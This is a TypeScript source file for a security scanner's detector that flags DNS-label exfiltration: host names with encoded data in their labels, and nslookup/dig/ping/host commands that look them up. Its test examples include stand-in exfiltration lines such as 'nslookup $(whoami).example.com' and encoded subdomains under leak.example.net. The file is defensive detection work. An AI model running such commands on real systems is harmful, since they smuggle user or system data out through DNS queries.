import type { Detector, Match } from '../../detector.js';
import { entropyOf } from '../entropy.js';
import { urlAt } from './urls.js';

const command =
  /\s{0,4}(?:-[a-z]{1,8}\s{1,4}(?:[a-z]{1,6}\s{1,4})?){0,3}((?:[$`{(]{0,3}[a-z0-9_(){}$`|\- ]{1,63}\.)?(?:[a-z0-9_-]{1,63}\.){1,8}[a-z]{2,24})/iy;

/** Shorter ones carry nothing. */
const shortestHost = 29;

/** Names that providers make themselves: buckets, previews, functions. */
const generated =
  /\.(?:amazonaws\.com|cloudfront\.net|azurewebsites\.net|windows\.net|vercel\.app|netlify\.app|pages\.dev|workers\.dev|run\.app|googleusercontent\.com|web\.app|herokuapp\.com|akamaihd\.net|fastly\.net|github\.dev|gitpod\.io|ipfs\.dweb\.link|onion)$/;

function threatOf(host: string): number {
  const labels = host.split('.').slice(0, -2);
  if (labels.length === 0 || generated.test(host)) return 0;
  const opaque = labels.filter((label) => label.length >= 16 && isOpaque(label));
  const longest = opaque.reduce((most, { length }) => Math.max(most, length), 0);
  if (longest < 24) return 0;
  if (longest >= 48 || opaque.join('').length >= 60) return 0.75;
  return longest >= 32 ? 0.55 : 0.35;
}

function isOpaque(label: string): boolean {
  if (label.startsWith('xn--') || !/^[a-z0-9_=-]+$/.test(label)) return false;
  // Words joined by dashes are a name.
  const longest = label.split('-').reduce((most, { length }) => Math.max(most, length), 0);
  if (longest < 16) return false;
  return /^[0-9a-f]{24,}$/.test(label) || (/\d/.test(label) && /[a-z]/.test(label) && entropyOf(label) > 3.3);
}

function verifyUrl(text: string, start: number): Match | undefined {
  const url = urlAt(text, start);
  if (!url || url.host.length < shortestHost) return undefined;
  const confidence = threatOf(url.host);
  return confidence > 0
    ? { start, end: start + text.slice(start, url.end).indexOf(url.host.slice(-8)) + 8, confidence }
    : undefined;
}

/** `nslookup $(whoami).example.com` */
function verifyCommand(text: string, start: number, end: number): Match | undefined {
  command.lastIndex = end;
  const found = command.exec(text);
  const host = found?.[1];
  if (found === null || host === undefined) return undefined;
  const isFilled = /[$`{(]/.test(host);
  const confidence = isFilled ? 0.8 : threatOf(host.toLowerCase());
  return confidence > 0 ? { start, end: end + found[0].length, confidence } : undefined;
}

/** Data in the labels of a host name: who answers for the domain reads it in the question. MITRE ATT&CK T1048.003, T1071.004. */
export const exfilDnsLabelDetector: Detector = {
  id: 'mcp.exfil.dns_label',
  kind: 'threat',
  title: 'Exfiltration: host name',
  description: 'Host names whose labels carry data, and commands that look them up.',
  label: 'host name that carries data',
  finders: [
    { literals: ['http://', 'https://'], verify: verifyUrl },
    { literals: ['nslookup ', 'dig ', 'ping ', 'host '], verify: verifyCommand },
  ],
  examples: {
    found: [
      'get «https://4a6f686e20446f6520343131312031313131.x.example.com»/a',
      'ping it: «nslookup $(whoami).example.com»',
      '«dig nb2w45dfoizdqmjzgi3tmnzrgy4dsmrt.leak.example.net»',
    ],
    clean: [
      'https://a-rather-long-but-readable-name-of-a-service.example.com/',
      'https://my-bucket-2024-11-05-prod-eu-west-1.s3.amazonaws.com/a',
      'ping example.com',
      'dig example.org',
      'https://d111111abcdef8.cloudfront.net/x',
      'host www.example.com',
    ],
    worst: ['https://', 'dig ', 'nslookup $(', 'ping a.', 'https://a1b2c3d4e5f6a7b8c9d0e1f2a3b4.'],
  },
};
